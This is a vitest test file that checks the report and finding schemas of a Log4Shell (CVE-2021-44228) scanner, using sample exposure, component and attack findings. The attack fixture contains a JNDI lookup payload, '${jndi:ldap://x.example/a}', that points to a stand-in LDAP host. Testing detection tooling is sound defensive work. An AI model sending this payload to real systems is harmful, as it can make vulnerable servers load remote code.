import { expect, test } from 'vitest'
import { findingSchema, reportLineSchema, reportSchema } from './index.ts'

const exposure = {
  schema: 'fireline.finding/1',
  id: 'f-1',
  kind: 'exposure',
  at: { url: 'http://127.0.0.1/', point: { kind: 'header', name: 'User-Agent' } },
  proof: 'name-resolved',
  band: null,
  callback: {
    channel: 'dns',
    from: { address: '127.0.0.1', port: 1 },
    source: 'resolver',
    at: '2026-01-01T00:00:00.000Z',
    delayMs: 1,
  },
  egress: [],
  identity: null,
  title: 'a title',
  severity: 'medium',
  cves: [{ id: 'CVE-2021-44228', status: 'under_investigation', because: 'a name was asked for' }],
  evidence: [{ kind: 'delivery', payload: 'x', status: 200, sentAt: '2026-01-01T00:00:00.000Z' }],
  by: 'probe',
  seenAt: '2026-01-01T00:00:00.000Z',
  remedy: 'find out',
}

const component = {
  schema: 'fireline.finding/1',
  id: 'f-2',
  kind: 'component',
  at: { path: '/srv/a.war!b.jar' },
  component: {
    product: 'log4j-core',
    purl: 'pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1',
    version: '2.14.1',
    versionRange: null,
    identifiedBy: ['class-bytes'],
    mitigations: [],
    packageRoot: null,
  },
  title: 'a title',
  severity: 'critical',
  cves: [{ id: 'CVE-2021-44228', status: 'affected', because: 'it is there' }],
  evidence: [{ kind: 'metadata', path: 'pom.properties', says: 'version=2.14.1' }],
  by: 'log4j',
  seenAt: '2026-01-01T00:00:00.000Z',
  remedy: 'update',
}

const attack = {
  schema: 'fireline.finding/1',
  id: 'f-3',
  kind: 'attack',
  at: { source: '/var/log/a.log', line: 1, byteOffset: 0 },
  when: null,
  from: '203.0.113.7',
  request: null,
  userAgent: null,
  field: null,
  format: 'plain',
  verdict: 'fires',
  because: 'a vulnerable Log4j looks it up',
  firesOn: ['C'],
  needsJdk: null,
  lookup: {
    raw: '${jndi:ldap://x.example/a}',
    meaning: 'jndi:ldap://x.example/a',
    scheme: 'ldap',
    host: 'x.example',
    port: 389,
    path: 'a',
    domain: null,
    reads: [],
    times: 1,
  },
  traits: [],
  leaks: [],
  carries: [],
  outcome: 'attempt',
  scanner: null,
  title: 'a title',
  severity: 'high',
  cves: [{ id: 'CVE-2021-44228', status: 'under_investigation', because: 'the log does not say' }],
  evidence: [{ kind: 'log', source: '/var/log/a.log', line: 1, byteOffset: 0, says: 'it is there', text: 'x' }],
  by: 'hunt',
  seenAt: '2026-01-01T00:00:00.000Z',
  remedy: 'scan',
}

const report = {
  schema: 'fireline.report/1',
  tool: { name: 'fireline', version: '0.1.0' },
  verb: 'probe',
  startedAt: '2026-01-01T00:00:00.000Z',
  endedAt: '2026-01-01T00:00:01.000Z',
  complete: true,
  notes: [],
  stats: { targets: 1 },
  findings: [exposure],
  gaps: [{ at: 'x', because: 'timed-out', detail: '' }],
}

test('a report as the first release wrote it is still one', () => {
  expect(reportSchema.parse(report)).toEqual(report)
})

test.each(['probe', 'scan', 'fix', 'hunt'])('a report of %s can have findings of any kind', (verb) => {
  const mixed = { ...report, verb, findings: [exposure, component, attack] }

  expect(reportSchema.parse(mixed)).toEqual(mixed)
})

test('members that are not known are borne', () => {
  expect(findingSchema.safeParse({ ...component, novel: 1 }).success).toBe(true)
  expect(reportLineSchema.safeParse({ ...exposure, novel: 1 }).success).toBe(true)
})

test.each([
  ['evidence of an exposure in a component', { ...component, evidence: exposure.evidence }],
  ['no evidence at all', { ...component, evidence: [] }],
  ['a product that we do not know', { ...component, component: { ...component.component, product: 'log5j' } }],
  ['a component where an exposure is claimed', { ...component, kind: 'exposure' }],
  ['a kind that is none', { ...component, kind: 'rumour' }],
])('%s is refused', (_case, finding) => {
  expect(findingSchema.safeParse(finding).success).toBe(false)
  expect(reportLineSchema.safeParse(finding).success).toBe(false)
})
